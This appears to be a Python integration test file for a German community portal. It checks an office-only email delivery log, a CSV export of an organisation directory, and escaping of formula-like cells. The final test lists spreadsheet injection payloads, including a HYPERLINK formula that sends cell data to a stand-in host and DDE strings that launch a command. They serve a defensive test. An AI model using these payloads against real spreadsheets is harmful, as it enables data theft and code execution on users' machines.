"""Office staff look up in the portal whether an email went out: the notifier's delivery log."""

from __future__ import annotations

import csv
import io

import httpx

from tests.integration.notifier_fixtures import ServedDirectory, ServedNotifier
from tests.support.infra import RabbitVhost
from tests.support.mail import MailServer, tagged
from tests.support.members import member_with_password
from tests.support.portal import portal_client, session_of
from tests.support.services import log_in
from tests.support.waiting import eventually as wait_until

PASSWORD = "Nachbarschaft-Linde-2026"


def portal(notifier_url: str | None = None, directory_url: str | None = None) -> httpx.AsyncClient:
    return portal_client(notifier_url=notifier_url, directory_url=directory_url)


async def test_office_staff_see_that_an_invitation_went_out_and_members_may_not_look(
    served_directory: ServedDirectory,
    notifier: ServedNotifier,
    mail_server: MailServer,
) -> None:
    olena = tagged("olena")
    linde = await served_directory.register("Nachbarschaftstreff Linde")
    await served_directory.invite(linde["id"], olena, "Olena Kovalenko")
    await mail_server.wait_for(lambda m: m.to == olena)

    # the mail server holds the mail before the sender records it as sent
    async def recorded() -> bool:
        doc = await notifier.service.store.db["deliveries"].find_one({"address": olena})
        return doc is not None and doc["status"] == "sent"

    await wait_until(recorded)

    async with portal(notifier.url) as client:
        client.cookies.set("inx_session", session_of(served_directory.admin))
        found = await client.get("/buero/zustellungen", params={"adresse": olena.upper()})
        failed = await client.get(
            "/buero/zustellungen", params={"adresse": olena, "status": "failed"}
        )
        client.cookies.set("inx_session", session_of(served_directory.editor_of(linde["id"])))
        member = await client.get("/buero/zustellungen")
        client.cookies.clear()
        signed_out = await client.get("/buero/zustellungen")

    assert found.status_code == 200, found.text
    assert "1 E-Mail<" in found.text
    assert olena in found.text
    assert "Einladung" in found.text
    assert "<td>verschickt <span" in found.text
    assert 'id="keine-zustellungen"' in failed.text
    assert member.status_code == 403
    assert "Nur für das Büro" in member.text
    assert olena not in member.text
    assert (signed_out.status_code, signed_out.headers["location"]) == (303, "/login")


async def test_the_log_while_the_notifier_is_down_says_so() -> None:
    async with portal() as client:
        client.cookies.set("inx_session", "a-session-token")
        answer = await client.get("/buero/zustellungen")
    assert answer.status_code == 503
    assert "gerade nicht erreichbar" in answer.text


async def test_office_staff_download_the_directory_as_a_spreadsheet_members_may_not(
    served_directory: ServedDirectory, notifier_vhost: RabbitVhost
) -> None:
    await served_directory.register(
        "Ukrainischer Verein Mriya e.V.",
        kind="migrant_organisation",
        district="Nordstadt",
        languages=["uk", "de"],
        fields=["language_education"],
        email="kontakt@mriya.example",
    )
    archived = await served_directory.register("Alter Kulturkreis; e.V.")
    gone = await served_directory.client.delete(
        f"/organisations/{archived['id']}", headers=served_directory.admin
    )
    assert gone.status_code == 200, gone.text
    kept = await served_directory.register("Nachbarschaftstreff Linde")
    await member_with_password(
        served_directory.client,
        served_directory.admin,
        notifier_vhost.url,
        kept["id"],
        email="jana@linde.example",
        name="Jana Novak",
        password=PASSWORD,
    )
    jana = await log_in(served_directory.client, "jana@linde.example", PASSWORD)
    async with portal(directory_url=served_directory.url) as client:
        client.cookies.set("inx_session", session_of(served_directory.admin))
        active = await client.get("/buero/organisationen.csv")
        everything = await client.get("/buero/organisationen.csv", params={"archivierte": "true"})
        client.cookies.set("inx_session", session_of(jana))
        member = await client.get("/buero/organisationen.csv")

    assert active.status_code == 200, active.text
    assert active.headers["content-type"] == "text/csv; charset=utf-8"
    assert active.headers["content-disposition"].startswith('attachment; filename="organisationen-')
    assert active.content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(active.text.removeprefix("\ufeff")), delimiter=";"))
    assert rows[0][:3] == ["Name", "Art", "Stadtteil"]
    [mriya] = [row for row in rows[1:] if row[0] == "Ukrainischer Verein Mriya e.V."]
    assert mriya[1] == "Migrantenorganisation"
    assert mriya[2] == "Nordstadt"
    assert mriya[4] == "kontakt@mriya.example"
    assert mriya[7] == "uk, de"
    assert mriya[9] == "Sprache und Bildung"
    assert mriya[10] == "aktiv"
    assert "Alter Kulturkreis; e.V." not in active.text
    every_row = list(csv.reader(io.StringIO(everything.text.removeprefix("\ufeff")), delimiter=";"))
    [old] = [row for row in every_row if row[0] == "Alter Kulturkreis; e.V."]
    assert old[10] == "archiviert"
    assert member.status_code == 403
    assert "Nur für das Büro" in member.text


async def test_a_spreadsheet_cell_that_looks_like_a_formula_is_shown_as_text_never_run(
    served_directory: ServedDirectory,
) -> None:
    attacks = [
        '=HYPERLINK("https://evil.example/?d="&A2,"Mehr")',
        "+49 831 2525-0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "  =1+1",
    ]
    for name in attacks:
        await served_directory.register(name, district=name[:40])
    async with portal(directory_url=served_directory.url) as client:
        client.cookies.set("inx_session", session_of(served_directory.admin))
        answer = await client.get("/buero/organisationen.csv")

    assert answer.status_code == 200, answer.text
    rows = list(csv.reader(io.StringIO(answer.text.removeprefix("\ufeff")), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row if cell]
    dangerous = [c for c in cells if c.lstrip(" ")[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    assert dangerous == []
    names = {row[0] for row in rows[1:]}
    assert {"'" + name.strip() for name in attacks} <= names
